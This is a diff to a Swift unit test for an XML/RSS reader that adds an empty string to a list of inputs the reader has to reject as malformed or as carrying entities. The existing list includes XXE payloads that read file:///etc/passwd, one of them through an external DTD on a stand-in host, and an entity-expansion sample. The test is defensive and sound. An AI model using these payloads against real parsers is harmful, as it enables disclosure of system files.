@@ -98,7 +98,7 @@ struct XMLReaderTests {
         "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><rss><channel><item><title>&x;</title></item></channel></rss>",
         "<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><rss><channel><item><description>&b;</description></item></channel></rss>",
         "<!DOCTYPE rss SYSTEM \"http://d.example/x.dtd\" [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]><rss>&q;</rss>",
-        "<rss><channel><item>", "<rss></feed>", "<rss>\u{1}</rss>",
+        "", "<rss><channel><item>", "<rss></feed>", "<rss>\u{1}</rss>",
     ])
     func whatIsNotWellFormedOrHasEntitiesIsTold(xml: String) {
         let found = read(xml)
